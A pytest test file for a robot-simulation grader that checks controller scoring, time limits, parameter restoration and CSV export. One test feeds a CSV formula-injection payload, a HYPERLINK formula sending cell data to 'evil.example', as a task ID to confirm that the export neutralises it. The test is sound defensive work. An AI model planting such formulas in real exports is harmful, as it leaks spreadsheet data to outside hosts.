"""The grader on a headless simulation: a run from the start pose, scored on the true pose."""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from simbridge.errors import ServiceError
from simbridge.grading import default_tasks_dir
from simbridge.grading.grader import Grader
from simbridge.grading.results import ResultsLog
from simbridge.grading.task import parse_task
from simbridge.headless import Simulation
from simbridge.tools.bag import read_messages
from simbridge.tools.grade import grade_headless
from simbridge.web.grading import attempts_csv


HEADING = default_tasks_dir() / "heading_step.yaml"


def p_heading(
    kp: float, ki: float = 0.0
) -> Callable[[Any, str, dict[str, Any]], Callable[[], None]]:
    """A PI heading controller at 10 Hz (every other step) on the robot's /odom (no anti-windup)."""

    def make(sim: Any, robot: str, goal: dict[str, Any]) -> Callable[[], None]:
        odom = sim.subscribe("/odom", maxlen=1)
        steps = [0]
        integral = [0.0]

        def step() -> None:
            steps[0] += 1
            if steps[0] % 2 or odom.latest is None:
                return
            q = odom.latest["pose"]["pose"]["orientation"]
            yaw = 2 * math.atan2(q["z"], q["w"])
            err = math.atan2(math.sin(goal["heading"] - yaw), math.cos(goal["heading"] - yaw))
            integral[0] += err * 0.1
            w = kp * err + ki * integral[0]
            sim.publish("/cmd_vel", {"angular": {"z": max(-2.5, min(2.5, w))}})

        return step

    return make


def test_a_sensible_controller_passes_and_a_wild_one_fails_on_overshoot(tmp_path: Path) -> None:
    good = grade_headless(HEADING, p_heading(3.0), bags=tmp_path / "bags")
    assert good["status"] == "passed", good["rubric"]
    assert good["metrics"]["overshoot_pct"] < 10
    topics = {topic for topic, *_ in read_messages(good["bag"])}
    assert {"/odom", "/cmd_vel", "/tf"} <= topics
    wild = grade_headless(HEADING, p_heading(3.0, 6.0))
    assert wild["status"] == "failed"
    failed = {line["metric"]: line for line in wild["rubric"] if not line["passed"]}
    assert "overshoot_pct" in failed
    assert failed["overshoot_pct"]["value"] == wild["metrics"]["overshoot_pct"] > 10


def test_a_run_ends_at_its_time_limit_with_the_robot_stopped_and_its_params_back() -> None:
    sim = Simulation()
    grader = Grader(sim.graph, sim.world, ResultsLog(None), {})
    sim.tick_hooks.append(grader.tick)
    task = parse_task(
        "goal: {position: [3, 0]}\ntime_limit: 1\n"
        "robot_params: {robot.mass: 4.0, realism.enabled: true}\n"
        "start: [0.5, 0.0, 0.0]\nrubric: {time_to_goal_s: {max: 5}}\n",
        task_id="t",
    )
    run = grader.start(None, "", task)
    assert sim.pose() == pytest.approx((0.5, 0.0, 0.0))
    assert sim.world.robot_params("").mass == 4.0
    assert sim.world.robots[""].realism_own == {"enabled": True}
    with pytest.raises(ServiceError, match="already running attempt a1"):
        grader.start(None, "", task)
    sim.run(0.5)
    assert run.phase == "waiting"  # no command yet: the clock has not started
    sim.publish("/cmd_vel", {"linear": {"x": 0.2}})
    sim.run(1.5)
    record = grader.results.attempts[run.attempt]
    assert record["status"] == "failed"
    assert record["duration_s"] == pytest.approx(1.0)
    assert 0.1 < record["metrics"]["path_length_m"] < 0.21  # 0.2 m/s for 1 s, a real motor
    assert sim.world.robots[""].cmd_v == 0.0
    assert sim.world.robot_params("").mass == 1.5
    assert sim.world.robots[""].realism_own == {}


def test_a_controller_that_never_comes_is_recorded_as_no_controller() -> None:
    sim = Simulation()
    grader = Grader(sim.graph, sim.world, ResultsLog(None), {}, max_attempts=1)
    sim.tick_hooks.append(grader.tick)
    task = parse_task(
        "goal: {heading: 1}\ntime_limit: 1\nwait_for_controller: 0.5\n"
        "rubric: {overshoot_pct: {max: 5}}\n",
        task_id="t",
    )
    run = grader.start(None, "", task)
    sim.run(1.0)
    assert grader.results.attempts[run.attempt]["status"] == "no_controller"
    with pytest.raises(ServiceError, match=r"has 1 attempts .*grading_max_attempts 1"):
        grader.start(None, "", task)  # the budget: what one robot's attempts may hold


#: A run's own robot: slower, with a worn robot's motors, latency and slip (not the class's).
WORN = (
    "robot_params: {robot.max_linear_velocity: 0.2, realism.enabled: true, "
    "realism.cmd_latency: 0.1, realism.motor_time_constant: 0.2, realism.slip_stddev: 0.05, "
    "realism.seed: 9}\n"
)


def _sim(class_profile: bool) -> Simulation:
    """The default world; ``class_profile``: every robot under the class's realism profile."""
    sim = Simulation()
    if class_profile:
        p = sim.world.params
        real = p.realism.replace(enabled=True, slip_stddev=0.02, motor_time_constant=0.05)
        sim.world.params = p.replace(realism=real)
    return sim


def _drive(sim: Simulation, steps: int) -> list[tuple[float, ...]]:
    """Drive an arc then a turn the other way; the truth and /odom after each step."""
    out = []
    body = sim.world.robots[""]
    for k in range(steps):
        sim.publish("/cmd_vel", {"linear": {"x": 0.4}, "angular": {"z": 0.8 if k < 8 else -0.8}})
        sim.step()
        s, o = body.state, body.odometry()
        out.append((s.x, s.y, s.theta, o.x, o.y, o.theta))
    return out


@pytest.mark.parametrize("class_profile", [False, True], ids=["ideal", "class_profile"])
@pytest.mark.parametrize("ending", ["time_limit", "cancel", "server_stops"])
def test_after_a_run_with_its_own_robot_the_robot_moves_as_one_that_never_ran(
    class_profile: bool, ending: str
) -> None:
    sim = _sim(class_profile)
    grader = sim.grader
    task = parse_task(
        "goal: {position: [2, 0]}\ntime_limit: 1\n" + WORN + "rubric: {time_to_goal_s: {max: 5}}\n",
        task_id="t",
    )
    body = sim.world.robots[""]
    before = (dict(body.overrides), dict(body.realism_own))
    run = grader.start(None, "", task)
    assert sim.world.robot_params("").max_linear_velocity == 0.2
    # the controller sends a command every step up to the end (and goes on after it: _drive)
    for _ in range(100 if ending == "time_limit" else 10):
        sim.publish("/cmd_vel", {"linear": {"x": 0.3}, "angular": {"z": 0.4}})
        sim.step()
        if not grader.runs:
            break
    if ending == "cancel":
        grader.cancel("", "cancelled by the test")
    elif ending == "server_stops":
        grader.close()
    expected = {"time_limit": "failed", "cancel": "cancelled", "server_stops": "interrupted"}
    assert grader.results.attempts[run.attempt]["status"] == expected[ending]
    assert not grader.runs
    assert (body.overrides, body.realism_own) == before
    # the robot that never had the run, at the same pose and time: the same next steps, exactly
    other = _sim(class_profile)
    other.world.robots[""].place((body.state.x, body.state.y, body.state.theta))
    other.world.time = sim.world.time  # the plant integrates over [t, t + dt]: the same floats
    assert _drive(sim, 20) == _drive(other, 20)


def test_a_robot_killed_and_spawned_again_mid_run_ends_the_run_and_keeps_its_new_params() -> None:
    sim = Simulation()
    grader = sim.grader
    sim.world.spawn("r9", (1.0, 1.0, 0.0))
    task = parse_task(
        "goal: {heading: 1}\ntime_limit: 5\nrobot_params: {robot.mass: 4.0}\n"
        "rubric: {overshoot_pct: {max: 5}}\n",
        task_id="t",
    )
    run = grader.start(None, "r9", task)
    sim.world.remove("r9")
    sim.world.spawn("r9", (1.0, 1.0, 0.0))  # before the grader's next tick
    sim.world.set_robot_params("r9", {"mass": 2.0})  # the instructor's, for the new robot
    sim.step()
    record = grader.results.attempts[run.attempt]
    assert record["status"] == "error" and "removed" in record["reason"]
    assert sim.world.robot_params("r9").mass == 2.0


def test_the_csv_shows_a_students_task_id_as_text_never_as_a_formula() -> None:
    sim = Simulation()
    grader = Grader(sim.graph, sim.world, ResultsLog(None), {})
    task = parse_task(
        "goal: {heading: 1}\ntime_limit: 1\nrubric: {overshoot_pct: {max: 10}}\n",
        task_id='=HYPERLINK("http://evil.example/?"&A1,"open")',
    )
    run = grader.start(None, "", task)
    grader.cancel("", "test")
    rows = list(csv.DictReader(io.StringIO(attempts_csv(grader))))
    assert rows[0]["attempt"] == run.attempt
    assert rows[0]["task_id"] == "'" + task.id


def test_a_start_refused_for_its_robot_params_leaves_the_robot_as_it_was() -> None:
    sim = Simulation()
    grader = Grader(sim.graph, sim.world, ResultsLog(None), {})
    sim.publish("/cmd_vel", {"linear": {"x": 0.2}, "angular": {"z": 0.3}})
    sim.run(0.2)
    body = sim.world.robots[""]
    pose, command = sim.pose(), (body.cmd_v, body.cmd_omega)
    assert command == (0.2, 0.3)
    task = parse_task(
        "goal: {position: [3, 0]}\ntime_limit: 1\nstart: [0.5, 0.5, 1.0]\n"
        "robot_params: {robot.mass: 4.0, realism.slip: -1}\nrubric: {time_to_goal_s: {max: 5}}\n",
        task_id="t",
    )
    with pytest.raises(ServiceError, match=r"task 't': .*slip"):
        grader.start(None, "", task)
    assert sim.pose() == pose  # not teleported to the task's start
    assert (body.cmd_v, body.cmd_omega) == command  # nor stopped
    assert sim.world.robot_params("").mass == 1.5
    assert body.realism_own == {}
    assert grader.runs == {}
